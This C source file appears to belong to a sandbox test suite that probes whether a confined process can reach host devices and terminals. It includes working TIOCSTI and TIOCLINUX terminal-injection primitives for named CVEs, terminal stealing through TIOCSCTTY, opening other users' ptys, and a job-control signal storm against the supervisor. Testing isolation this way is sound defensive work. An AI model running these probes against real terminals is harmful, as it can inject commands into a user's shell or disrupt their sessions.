/* SPDX-License-Identifier: Apache-2.0 */
/* probe_dev.c - device nodes and terminals. */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int do_dev(int argc, char **argv)
{
	int fd = open(argv[1], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

	(void)argc;
	if (fd >= 0)
		return p_ok("opened %s", argv[1]);
	/* The node is there and its driver answered. */
	if (errno == ENXIO || errno == EIO || errno == ENODEV || errno == EBUSY)
		return p_ok("%s has a driver: %s", argv[1], strerrorname_np(errno));
	return p_no(errno, "open %s", argv[1]);
}

/* Raw, because the C library would cut the high half of the request off. */
static long raw_ioctl(int fd, unsigned long req, void *arg, int high)
{
	return syscall(SYS_ioctl, fd, high ? req | 1ul << 32 : req, arg);
}

static int is_high(int argc, char **argv)
{
	return argc > 2 && !strcmp(argv[2], "high");
}

static int do_tiocsti(int argc, char **argv)
{
	char c = '~';
	long r = 0;

	if (argc > 2 && !is_high(argc, argv)) {
		for (const char *p = argv[2]; *p && r >= 0; p++) {
			c = *p;
			r = raw_ioctl(atoi(argv[1]), TIOCSTI, &c, 0);
		}
		return p_result(r, "TIOCSTI");
	}
	return p_result(raw_ioctl(atoi(argv[1]), TIOCSTI, &c, is_high(argc, argv)), "TIOCSTI");
}

static int do_tioclinux(int argc, char **argv)
{
	char sub[16] = { 3 }; /* paste what was selected */

	/* A pty says ENOTTY, a console would paste. */
	return p_reached(raw_ioctl(atoi(argv[1]), TIOCLINUX, sub, is_high(argc, argv)), "TIOCLINUX");
}

static int do_tiocsetd(int argc, char **argv)
{
	int n_tty = 0;

	return p_reached(raw_ioctl(atoi(argv[1]), TIOCSETD, &n_tty, is_high(argc, argv)), "TIOCSETD");
}

static int steal(void *arg)
{
	setsid();
	return p_result(ioctl(*(int *)arg, TIOCSCTTY, 1), "TIOCSCTTY, stealing");
}

static int do_tiocsctty(int argc, char **argv)
{
	int fd = atoi(argv[1]);

	(void)argc;
	return p_in_child(steal, &fd);
}

/* Which terminal is this, as the kernel counts them? */
static int do_tty_id(int argc, char **argv)
{
	int fd = argc > 1 ? atoi(argv[1]) : 0;
	struct stat st;

	if (fstat(fd, &st) < 0)
		return p_no(errno, "fstat");
	if (!isatty(fd))
		return p_no(ENOTTY, "not a terminal");
	return p_ok("dev=%lu ino=%lu rdev=%u:%u", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
		    major(st.st_rdev), minor(st.st_rdev));
}

static int do_devtty(int argc, char **argv)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);

	(void)argc; (void)argv;
	return p_result(fd, "open /dev/tty");
}

static int do_ptmx(int argc, char **argv)
{
	int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC), nr = -1;

	(void)argc; (void)argv;
	if (fd < 0)
		return p_no(errno, "open /dev/ptmx");
	if (ioctl(fd, TIOCGPTN, &nr) < 0)
		return p_no(errno, "TIOCGPTN");
	return p_ok("pts %d", nr);
}

/* Any terminal below DIR that opens and is not one that we made ourselves. */
static int do_foreign_pts(int argc, char **argv)
{
	int opened = 0, last = ENOENT;
	struct stat own = { 0 };

	(void)argc;
	(void)fstat(0, &own);
	for (int i = 0; i < 64; i++) {
		char path[300];
		struct stat st;
		int fd;

		snprintf(path, sizeof path, "%s/%d", argv[1], i);
		fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0) {
			if (errno != ENOENT)
				last = errno;
			continue;
		}
		if (fstat(fd, &st) == 0 && (st.st_dev != own.st_dev || st.st_ino != own.st_ino))
			opened++;
		close(fd);
	}
	return opened ? p_ok("%d other terminals", opened) : p_no(last, "no other terminal");
}

/* Signals that stop or end a terminal's jobs, to our own group and to whoever
 * started us, for as long as that one is there. */
static int do_storm(int argc, char **argv)
{
	static const int sigs[] = { SIGTTOU, SIGTTIN, SIGTSTP, SIGHUP, SIGCONT, SIGWINCH };
	pid_t parent = getppid();

	(void)argc; (void)argv;
	for (size_t i = 0; i < sizeof sigs / sizeof *sigs; i++)
		signal(sigs[i], SIG_IGN);
	for (int round = 0; round < 200; round++)
		for (size_t i = 0; i < sizeof sigs / sizeof *sigs; i++) {
			if (getppid() == parent)
				(void)kill(parent, sigs[i]);
			(void)kill(0, sigs[i]);
		}
	return p_ok("storm is over");
}

#define INJECT "input is pushed into the caller's terminal, CVE-2017-5226"
const struct probe probes_dev[] = {
	{ "dev", "D02", "a device of the host is opened", do_dev, 1, "PATH" },
	{ "tiocsti", "D03", INJECT ", CVE-2019-10063 with high bits", do_tiocsti, 1, "FD [high|TEXT]" },
	{ "tioclinux", "D05", INJECT ", CVE-2023-28100", do_tioclinux, 1, "FD [high]" },
	{ "tiocsctty", "D06", "the caller's terminal is stolen", do_tiocsctty, 1, "FD" },
	{ "tiocsetd", "D07", "a line discipline is loaded", do_tiocsetd, 1, "FD [high]" },
	{ "devtty", "D08", "/dev/tty of the caller", do_devtty, 0, NULL },
	{ "tty-id", "D08", "which terminal", do_tty_id, 0, "[FD]" },
	{ "ptmx", "D10", "a pty of the host's devpts", do_ptmx, 0, NULL },
	{ "foreign-pts", "D10", "somebody else's terminal", do_foreign_pts, 1, "DIR" },
	{ "storm", "D11", "job-control signals against the supervisor", do_storm, 0, NULL },
	{ 0 },
};
